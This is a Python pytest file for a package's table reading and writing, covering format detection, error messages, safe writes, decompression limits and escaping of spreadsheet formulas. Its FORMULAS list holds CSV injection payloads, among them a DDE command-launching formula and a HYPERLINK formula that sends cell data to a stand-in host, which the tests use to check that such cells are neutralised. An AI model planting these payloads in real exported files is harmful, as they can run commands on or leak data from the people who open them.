"""Tables to files and back."""

import bz2
import gzip
import json
import lzma
import re
import signal
import subprocess
import sys
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import stance
from stance import tables
from stance.data import posts_table
from stance.errors import DataError
from stance.tables import (
    FORMATS,
    FORMULA_MARK,
    csv_lines,
    decompress,
    read_table,
    replacing,
    table_format,
    with_mark,
    without_mark,
    write_table,
)

ROOT = Path(__file__).resolve().parent.parent

#: What pandas' own defaults break: a lone carriage return, "NA", "None", quotes, formulas, NUL, lone surrogates.
NASTY = ["\r", "a\rb", "a\r\nb", "NA", "None", "null", 'say "hi"', "=1+1", "x\x00y", "\u2028", "1.0", "007", "", " "]
#: What comes together in formulas that hide: signs, marks, separators, and what nobody sees.
FORMULA_TEXTS = st.text(st.sampled_from("=+-@|＝－ʼ'\"; \t\r\n,a1\u00a0\u3000\u200b\ufeff\x00"), max_size=12)
TEXTS = st.one_of(st.sampled_from(NASTY), st.text(st.characters(), max_size=20), FORMULA_TEXTS)
ROWS = st.lists(
    st.fixed_dictionaries(
        {"thread": TEXTS, "post": TEXTS, "author": st.one_of(st.none(), st.text(min_size=1)), "text": TEXTS}
    ),
    min_size=1,
    max_size=6,
)


@pytest.mark.parametrize("ending", FORMATS)
@settings(deadline=None, max_examples=120)
@given(rows=ROWS)
def test_what_is_written_is_what_is_read(tmp_path_factory, ending, rows):
    if ending == ".parquet":
        # Parquet's strings are UTF-8, which has no lone surrogates; they are refused, not changed.
        rows = [{key: value and value.encode("utf-8", "ignore").decode() for key, value in row.items()} for row in rows]
    path = tmp_path_factory.mktemp("t") / f"table{ending}"
    table = posts_table(rows, ("thread", "post", "author", "text"))
    write_table(table, path)
    assert read_table(path).to_dict("records") == table.to_dict("records")


@pytest.mark.parametrize("ending", FORMATS)
def test_the_labels_of_a_file_are_numbers_as_those_in_memory_are(tmp_path, small_model, ending):
    labels = stance.label(posts_table([{"text": "ban this junk"}, {"text": ""}]), small_model)
    write_table(labels, tmp_path / f"labels{ending}")
    found = read_table(tmp_path / f"labels{ending}")
    assert found.dtypes.to_dict() == labels.dtypes.to_dict()
    assert found.to_dict("records") == labels.to_dict("records")


def test_what_is_not_known_stays_none_beside_numbers(tmp_path):
    (tmp_path / "labels.csv").write_text("post,p_favor,abstained,score\n1,0.25,FALSE,0.5\n2,,,0.5\n")
    assert read_table(tmp_path / "labels.csv").to_dict("records") == [
        {"post": "1", "p_favor": 0.25, "abstained": False, "score": "0.5"},
        {"post": "2", "p_favor": None, "abstained": None, "score": "0.5"},
    ]


def test_a_probability_that_is_no_number_stays_the_text_it_is(tmp_path):
    (tmp_path / "labels.csv").write_text("post,p_favor\n1,0.25\n2,much\n")
    assert read_table(tmp_path / "labels.csv")["p_favor"].tolist() == ["0.25", "much"]


def test_numbers_and_booleans_survive_json_lines_and_parquet(tmp_path):
    table = posts_table([{"text": "a", "p_favor": 0.1, "abstained": True}])
    for ending in (".jsonl", ".parquet"):
        write_table(table, tmp_path / f"t{ending}")
        assert read_table(tmp_path / f"t{ending}").to_dict("records") == table.to_dict("records")


@pytest.mark.parametrize("squeeze", [gzip.compress, bz2.compress, lzma.compress])
def test_a_compressed_table_is_read_by_its_content(tmp_path, squeeze):
    path = tmp_path / "posts"
    path.write_bytes(squeeze(b'{"text": "hi"}\n'))
    assert read_table(path).to_dict("records") == [{"text": "hi"}]


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b'{"text": "hi"}\n', ".jsonl"),
        (b"\xef\xbb\xbftext,stance\nhi,none\n", ".csv"),
        (b"text\nhi\n", ".csv"),
        (b"PAR1...", ".parquet"),
        (b'{"children": [{"text": "an export"}]}', None),
        (b"<html>", None),
        (b"Just a text, with a comma", None),
    ],
)
def test_a_table_is_known_by_its_content(data, kind):
    assert table_format(data) == kind


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("empty.csv", b"", r"empty\.csv: the file is empty; give a file with posts in it"),
        ("odd.jsonl", b'{"text": "a"}\n{oops\n', r"odd\.jsonl, line 2: not JSON .*; one object a line"),
        ("list.jsonl", b'{"text": "a"}\n[1]\n', r"list\.jsonl, line 2: list instead of an object"),
        ("short.csv", b"text,stance\na,none\nb\n", r"short\.csv, row 2: 1 cells under 2 columns; quote cells"),
        ("latin.csv", b"text\n\xe9t\xe9\n", r"latin\.csv: byte 5 is not UTF-8; save the table as UTF-8"),
        ("half.parquet", b"PAR1 and no more", r"half\.parquet: not Parquet"),
        ("page.html", b"<html></html>", r"page\.html: not a table; give JSON Lines, CSV"),
        ("torn.gz", gzip.compress(b'{"text": "a"}', mtime=0)[:-4], r"compressed data is damaged"),
    ],
)
def test_what_is_no_table_is_refused_in_one_line(tmp_path, name, data, message):
    (tmp_path / name).write_bytes(data)
    with pytest.raises(DataError, match=message) as caught:
        read_table(tmp_path / name)
    assert "\n" not in str(caught.value)


@given(place=st.integers(12, 60), bit=st.integers(0, 7))
def test_damage_inside_compressed_data_is_one_line(place, bit):
    data = bytearray(gzip.compress(b"".join(b'{"text": "%d"}\n' % number for number in range(40))))
    data[place] ^= 1 << bit
    try:
        decompress(bytes(data))
    except DataError as error:
        assert "compressed data is damaged" in str(error)


@pytest.mark.parametrize("squeeze", [gzip.compress, bz2.compress, lzma.compress])
def test_a_little_that_stands_for_very_much_is_refused(squeeze, monkeypatch):
    monkeypatch.setattr(tables, "MOST_EXPANDED", 1000)
    assert decompress(squeeze(bytes(1000))) == bytes(1000)
    with pytest.raises(DataError, match="more than 1,000 bytes after decompression"):
        decompress(squeeze(bytes(1001)))


def test_a_missing_file_is_named(tmp_path):
    with pytest.raises(DataError, match=r"nowhere\.csv: no such file; check the path"):
        read_table(tmp_path / "nowhere.csv")


def test_an_unknown_ending_is_refused_before_anything_is_written(tmp_path):
    with pytest.raises(DataError, match=r"end the name in one of \.jsonl, \.csv, \.parquet"):
        write_table(pd.DataFrame({"text": ["a"]}), tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_failure_while_writing_leaves_the_old_file_whole(tmp_path):
    path = tmp_path / "t.jsonl"
    path.write_text("old")
    with pytest.raises(RuntimeError), replacing(path) as stream:
        stream.write(b"half")
        raise RuntimeError
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_kill_while_writing_leaves_the_old_file_whole(tmp_path):
    path = tmp_path / "t.jsonl"
    path.write_text("old")
    code = (
        "import os, signal, sys\nfrom stance.tables import replacing\n"
        "with replacing(sys.argv[1]) as stream:\n    stream.write(b'half')\n    os.kill(os.getpid(), signal.SIGKILL)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(path)], cwd=ROOT)
    assert done.returncode == -signal.SIGKILL
    assert path.read_text() == "old"


def test_a_lone_surrogate_is_escaped_in_json_lines(tmp_path):
    write_table(posts_table([{"text": "\udcff"}]), tmp_path / "t.jsonl")
    assert json.loads((tmp_path / "t.jsonl").read_bytes()) == {"text": "\udcff"}


FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "leading space": " =1+1",
    "non-breaking space": "\u00a0=1+1",
    "ideographic space": "\u3000=1+1",
    "zero-width space": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "null": "\x00=1+1",
    "right-to-left mark": "\u200f=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "small equals": "﹦1+1",
    "true minus": "\u22121+1",
    "dynamic data exchange": "=cmd|' /C calc'!A0",
    "bar": "|calc",
    "percent": "%0A=1+1",
    "quoted": '"=1+1"',
    "after a semicolon": "well;=1+1",
    "quoted after a semicolon": 'well;"=1+1";',
    "in a later line": "well\n=1+1;",
    "after a tab": "well\t@SUM(A1)",
    "link that sends cells away": '=HYPERLINK("http://example.com/?"&A1;"more")',
    "tab and nothing else to see": "\twell",
}


def shown(cell):
    """A cell without what no spreadsheet shows before its first sign."""
    hidden = {character for character in cell if unicodedata.category(character) in ("Cc", "Cf", "Zs", "Zl", "Zp")}
    return cell.lstrip("".join(hidden | {'"'}))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_a_formula_is_written_as_text_and_read_as_it_was(tmp_path, formula):
    table = posts_table([{"post": "1", "text": formula, "author": formula, formula: "a column of this name"}])
    write_table(table, tmp_path / "t.csv")
    written = (tmp_path / "t.csv").read_bytes().decode()
    assert with_mark(formula).replace(FORMULA_MARK, "") == formula
    assert written.count(with_mark(formula).replace('"', '""')) == 3
    assert read_table(tmp_path / "t.csv").to_dict("records") == table.to_dict("records")


@settings(max_examples=500)
@given(text=TEXTS)
def test_no_separator_lets_a_formula_begin_a_cell(text):
    written = with_mark(text).replace('"', '""')
    cells = [shown(cell) for cell in re.split("[;\t\r\n]", written)]
    assert [cell for cell in cells if cell.startswith(tuple("-=+@＝＋－＠"))] == []


@settings(max_examples=500)
@given(text=st.one_of(TEXTS, FORMULA_TEXTS.map(with_mark)))
def test_the_mark_comes_off_exactly(text):
    assert without_mark(with_mark(text)) == text


@pytest.mark.parametrize("cell", ["'=1+1", "'-' is a dash", "''@bob", "ʼn Boer", "’=1", "`=1"])
def test_apostrophes_in_the_files_of_others_stay(tmp_path, cell):
    (tmp_path / "t.csv").write_text(f"text,post\n{cell},1\n")
    assert read_table(tmp_path / "t.csv")["text"].tolist() == [cell]


def test_numbers_stay_numbers():
    assert csv_lines([["text", "score"], ["-1", -1], ["=2", -0.5]]) == '"text","score"\n"ʼ-1",-1\n"ʼ=2",-0.5\n'.encode()
